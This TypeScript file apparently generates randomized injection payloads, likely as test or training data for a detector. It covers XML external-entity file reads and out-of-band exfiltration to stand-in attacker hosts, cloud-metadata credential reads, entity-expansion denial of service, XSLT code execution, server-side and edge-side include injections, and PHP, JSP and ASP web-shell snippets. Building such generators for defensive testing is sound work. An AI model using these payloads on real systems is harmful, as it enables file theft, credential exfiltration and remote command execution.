import { altered, family, integer, letters, maybe, mostly, oneOf, repeat, same, text, words } from '../template.ts';
import { attackerHost, attackerUrl, LOWER, lowerWord, port, UPPER } from '../vocabulary/shared.ts';
import { command, simpleCommand, unixFile, windowsFile } from '../vocabulary/systems.ts';

const blank = mostly([' ', 8], ['\n', 1], ['  ', 0.5], ['\t', 0.3]);
const declaration = mostly(
  ['', 3],
  ['<?xml version="1.0"?>', 4],
  ['<?xml version="1.0" encoding="UTF-8"?>', 3],
  ["<?xml version='1.0'?>", 1],
  ['<?xml version="1.0" encoding="ISO-8859-1"?>', 2],
  ['<?xml version="1.0" standalone="yes"?>', 0.7],
  ['<?xml version="1.0" encoding="UTF-7"?>', 0.2],
  ['<!--?xml version="1.0" ?-->', 0.5]
);
const root = mostly(
  [words('foo root data test xxe r a lolz replace message svg ANY x doc note creds'), 5],
  [lowerWord, 2]
);
const entity = mostly(
  [words('xxe xx file ent test sp ext payload send a b x dtd remote exfil'), 4],
  [letters(LOWER, 2, 8), 2]
);
const target = mostly(
  [text`file:///${unixFile}`, 6],
  [text`file:///c:/${windowsFile}`, 2],
  [
    text`php://filter/${maybe('read=')}convert.base64-encode/resource=${oneOf('/etc/passwd', 'index.php', text`/${unixFile}`, attackerUrl)}`,
    2
  ],
  [attackerUrl, 4],
  [text`http://${attackerHost}:${port}/${lowerWord}.dtd`, 2],
  [text`expect://${simpleCommand}`, 1],
  [text`http://169.254.169.254/latest/meta-data/${maybe('iam/security-credentials/')}`, 1],
  [text`jar:${attackerUrl}!/${lowerWord}.txt`, 0.5],
  [text`netdoc:///${unixFile}`, 0.5],
  [text`gopher://${attackerHost}:${port}/_${lowerWord}`, 0.4],
  [text`ftp://${attackerHost}:${port}/%${entity};`, 0.5],
  [text`file:///${words('dev/random dev/urandom sys/power/image_size')}`, 0.4],
  [text`data://text/plain;base64,${letters(LOWER + UPPER, 8, 40)}`, 0.3],
  [text`file://///${attackerHost}/${lowerWord}`, 0.2],
  ['file:///', 0.3],
  [text`http://${words('127.0.0.1 localhost')}:${port}`, 0.6]
);
const system = text`${mostly(['SYSTEM', 8], [text`PUBLIC "${lowerWord}"`, 1.5], [text`PUBLIC "-//${UPPER.slice(0, 1)}${lowerWord}"`, 0.3])}${blank}${same(oneOf('"', "'"), (quote) => altered(text`${quote}${target}${quote}`, (written) => written))}`;
const body = (name: string) =>
  text`<${root}>${maybe(text`<${lowerWord}>`)}&${name};${maybe(text`</${lowerWord}>`)}</${root}>`;

export const xmlTemplates = family('other-injection/xml', {
  'external-entity': same(
    entity,
    (name) =>
      text`${declaration}${maybe('\n')}<!DOCTYPE ${root}${maybe(' ')}[${maybe(oneOf(' ', '\n'))}${maybe(text`<!ELEMENT ${root} ANY${maybe(' ')}>`)}<!ENTITY ${name} ${system}${maybe(' ')}>${maybe(' ')}]>${maybe(body(name), 0.7)}`
  ),
  'external-entity-only': text`<!ENTITY${blank}${maybe('% ')}${entity}${blank}${system}${maybe(' ')}>`,
  'parameter-entity': same(
    entity,
    (name) =>
      text`${declaration}<!DOCTYPE ${root} [${maybe(' ')}<!ENTITY % ${name} ${system}${maybe(' ')}>${maybe(' ')}%${name};${maybe(text`%${entity};`)}${maybe(text`%${entity};`)}${maybe(' ')}]>${maybe(text`<${root}/>`)}`
  ),
  'parameter-entity-file': text`${declaration}<!DOCTYPE ${root} [<!ENTITY % file ${system}><!ENTITY % dtd SYSTEM "${attackerUrl}">%dtd;${maybe('%send;')}]>${maybe(text`<${root}>&send;</${root}>`)}`,
  'external-dtd': text`<!ENTITY % ${entity} "<!ENTITY ${oneOf('&#x25;', '&#37;', '%')} ${entity} SYSTEM '${oneOf(text`${attackerUrl}?x=`, text`file:///${lowerWord}/`, text`ftp://${attackerHost}/`)}%${entity};'>">${maybe(text`%${entity};`)}${maybe(text`%${entity};`)}`,
  'doctype-remote': text`${declaration}<!DOCTYPE ${root} ${oneOf('SYSTEM', text`PUBLIC "-//${lowerWord}//${lowerWord}//EN"`)} "${oneOf(attackerUrl, target)}"${maybe(text` []`)}>${maybe(text`<${root}/>`)}`,
  'entity-expansion': same(words('lol a ha x dos'), (name) =>
    altered(integer(3, 10), (depth) => {
      let dtd = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY ${name} "${name}">`;
      for (let at = 1; at < Number(depth); at++)
        dtd += `<!ENTITY ${name}${at} "${`&${name}${at === 1 ? '' : at - 1};`.repeat(at % 3 === 0 ? 8 : 10)}">`;
      return `${dtd}]><lolz>&${name}${Number(depth) - 1};</lolz>`;
    })
  ),
  'quadratic-expansion': text`<!DOCTYPE ${root} [<!ENTITY ${letters(LOWER, 1)} "${repeat(lowerWord, 10, 40)}">]><${root}>${repeat('&a;', 10, 60)}</${root}>`,
  xinclude: text`<${root}${blank}xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include${blank}${maybe('parse="text" ')}href="${target}"${maybe('/')}>${maybe(text`</xi:include>`)}</${root}>`,
  svg: same(
    entity,
    (name) =>
      text`${declaration}${maybe(text`<!DOCTYPE svg [<!ENTITY ${name} ${system}>]>`, 0.7)}<svg xmlns="http://www.w3.org/2000/svg"${maybe(' xmlns:xlink="http://www.w3.org/1999/xlink"')}>${oneOf(text`<text font-size="${integer(8, 40)}" x="0" y="${integer(8, 40)}">&${name};</text>`, text`<image xlink:href="${target}"></image>`, text`<image ${maybe('height="200" width="200" ')}xlink:href="expect://${simpleCommand}"/>`)}</svg>`
  ),
  soap: same(
    entity,
    (name) =>
      text`<${same(words('soap soapenv SOAP-ENV env'), (prefix) => text`${prefix}:Body><${root}><![CDATA[<!DOCTYPE ${root} [<!ENTITY % ${name} ${system}>%${name};]><${root}/>]]></${root}></${prefix}:Body`)}>`
  ),
  'local-dtd': text`<!DOCTYPE ${root} [<!ENTITY % local_dtd SYSTEM "file:///${oneOf('usr/share/yelp/dtd/docbookx.dtd', 'usr/share/xml/fontconfig/fonts.dtd', 'C:\\Windows\\System32\\wbem\\xml\\cim20.dtd', text`opt/${lowerWord}/${lowerWord}.dtd`)}"><!ENTITY % ${words('ISOamso expr constant SuperClass')} '<!ENTITY &#x25; file SYSTEM "file:///${unixFile}"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;'>%local_dtd;]>`,
  'cdata-wrapping': text`<!ENTITY % start "<![CDATA["><!ENTITY % ${entity} ${system}><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "${attackerUrl}">%dtd;`,
  'declared-elements': text`<!DOCTYPE ${root} [<!ELEMENT ${root} (#${words('ANY PCDATA CDATA')})>${maybe(text`<!ATTLIST ${root} ${lowerWord} CDATA #REQUIRED>`)}<!ENTITY ${entity} ${oneOf(system, text`"${lowerWord}"`)}>]>`,
  'schema-location': text`<${root} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:${words('schemaLocation noNamespaceSchemaLocation')}="${attackerUrl}"${oneOf('/>', text`></${root}>`)}`,
  'injected-elements': text`${lowerWord}</${same(words('user name role password item price login'), (name) => text`${name}><${oneOf('role', 'isAdmin', 'admin', 'uid', 'price')}>${oneOf('admin', 'true', '0', '1')}</${words('role isAdmin admin uid price')}><${name}`)}>${lowerWord}`,
  'cdata-breakout': text`${oneOf(']]>', '<![CDATA[', ']]><!--', ']]]]><![CDATA[>')}${oneOf(
    text`<${lowerWord}>`,
    '<',
    text`<!ENTITY x SYSTEM "${target}">`,
    text`<![CDATA[<script>${lowerWord}(${integer(1, 9)})</script>]]>`,
    altered(text`<script>alert(${integer(1, 99)})</script>`, (markup) =>
      markup.replace(/[<>]/g, (mark) => `<![CDATA[${mark}]]>`)
    )
  )}`,
  xslt: text`${declaration}<xsl:stylesheet version="${words('1.0 2.0')}" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"${oneOf(' xmlns:php="http://php.net/xsl"', ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"', ' xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:my-scripts"', '', ' xmlns:exploit="http://exslt.org/common"')}><xsl:template match="/">${oneOf(text`<xsl:value-of select="php:function('${words('system shell_exec file_get_contents passthru scandir')}','${oneOf(command, '/etc/passwd')}')"/>`, text`<xsl:value-of select="${oneOf("system-property('xsl:vendor')", "document('/etc/passwd')", text`document('${attackerUrl}')`, "unparsed-text('/etc/passwd','utf-8')")}"/>`, text`<xsl:variable name="rtobject" select="rt:getRuntime()"/><xsl:variable name="process" select="rt:exec($rtobject,'${simpleCommand}')"/>`, text`<xsl:include href="${attackerUrl}"/>`, text`<xsl:copy-of select="document('file:///${unixFile}')"/>`)}</xsl:template></xsl:stylesheet>`,
  'xslt-fragment': text`<xsl:${oneOf(text`value-of select="${oneOf(text`php:function('${words('system passthru')}','${simpleCommand}')`, "system-property('xsl:version')", text`document('${target}')`)}"/`, text`include href="${attackerUrl}"/`, text`import href="${attackerUrl}"/`)}>`
});

const cgiVariable = words(
  'DATE_LOCAL DATE_GMT DOCUMENT_NAME DOCUMENT_URI DOCUMENT_ROOT HTTP_USER_AGENT LAST_MODIFIED REMOTE_ADDR REMOTE_HOST SERVER_NAME SERVER_SOFTWARE SERVER_PORT QUERY_STRING SCRIPT_NAME SCRIPT_FILENAME PATH_INFO GATEWAY_INTERFACE AUTH_TYPE HTTP_COOKIE HTTP_REFERER REQUEST_METHOD HTTP_ACCEPT SERVER_PROTOCOL REMOTE_IDENT REMOTE_USER UNIQUE_ID HTTPS FORWARDED date_local document_name http_client_ip content_length script_uri remote_user'
);
const around = mostly(['', 6], ['<pre>', 0.6], [lowerWord, 0.5], ['"><', 0.2], ["'>", 0.2], ['-->', 0.2], ['<b>', 0.1]);
export const includeTemplates = family('other-injection/include', {
  exec: text`${around}<!--${maybe(' ', 0.1)}#exec${blank}${oneOf('cmd', 'cmd', 'cgi')}=${same(oneOf('"', "'", '"'), (quote) => text`${quote}${oneOf(command, simpleCommand, '/cgi-bin/x.cgi')}${quote}`)}${maybe(' ')}-->${maybe('</pre>')}`,
  echo: text`${around}<!--#echo${blank}var="${cgiVariable}${maybe('"', 0.85)}${maybe(' ')}-->`,
  include: text`${around}<!--#include${blank}${words('file virtual')}="${oneOf(text`/${unixFile}`, attackerUrl, '../../../etc/passwd', text`${lowerWord}.html`, '/cgi-bin/counter.pl', text`${lowerWord}/../${lowerWord}`)}"${maybe(' ')}-->`,
  'print-environment': text`${around}<!--#${words('printenv flastmod fsize config set')}${maybe(oneOf(text` file="${words('index.html ssi.shtml')}"`, text` virtual="${lowerWord}.html"`, text` ${words('errmsg timefmt sizefmt')}="${lowerWord}"`, text` var="${lowerWord}" value="${lowerWord}"`))}${maybe(' ')}-->`,
  'edge-include': text`${around}<esi:${oneOf(text`include src="${oneOf(attackerUrl, text`file:///${unixFile}`, text`http://${attackerHost}/?c=$(HTTP_COOKIE)`, text`http://127.0.0.1:${port}/admin`)}"${maybe(' onerror="continue"')}${maybe(text` dca="xslt" stylesheet="${attackerUrl}"`)}${maybe(' alt=""')}`, text`vars>$(${words('HTTP_COOKIE HTTP_HOST QUERY_STRING REMOTE_ADDR')})</esi:vars`, text`inline name="/${lowerWord}.html" fetchable="yes"><script>alert(${integer(1, 9)})</script></esi:inline`, text`debug`, text`remove>x</esi:remove`, text`assign name="${lowerWord}" value="$(QUERY_STRING{'${lowerWord}'})"`, text`eval src="${attackerUrl}" dca="none"`)}${oneOf('/>', '/>', '>', ' />')}`,
  'edge-comment': text`${lowerWord}<!--esi${blank}${oneOf(text`<esi:include src="${attackerUrl}"/>`, text`$add_header('${oneOf('Location', 'X-Test')}','${attackerUrl}')`, text`$url_decode(${lowerWord})`)}-->`,
  'jsp-php-asp': text`${around}${oneOf(text`<?php ${words('system eval passthru exec shell_exec phpinfo assert')}(${oneOf("$_GET['cmd']", '$_POST[0]', text`'${simpleCommand}'`, '$_REQUEST["x"]', '')});${maybe(' ?>')}`, text`<?=\`$_GET[${integer(0, 9)}]\`?>`, text`<?= system('${simpleCommand}') ?>`, text`<% Runtime.getRuntime().exec(request.getParameter("${lowerWord}")); %>`, text`<%eval request("${lowerWord}")%>`, text`<%@ Page Language="Jscript"%><%eval(Request.Item["${lowerWord}"],"unsafe");%>`, text`<%@ include file="/WEB-INF/web.xml" %>`, text`<script language="php">${words('system phpinfo')}('${simpleCommand}');</script>`, text`<%= ${oneOf('new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream()).next()', text`CreateObject("WScript.Shell").Exec("${simpleCommand}").StdOut.ReadAll()`)} %>`)}`,
  'cold-fusion': text`<cf${oneOf(text`execute name="cmd.exe" arguments="/c ${simpleCommand}"`, text`include template="/../../${lowerWord}"`, text`file action="read" file="/${unixFile}" variable="${lowerWord}"`)}>`
});
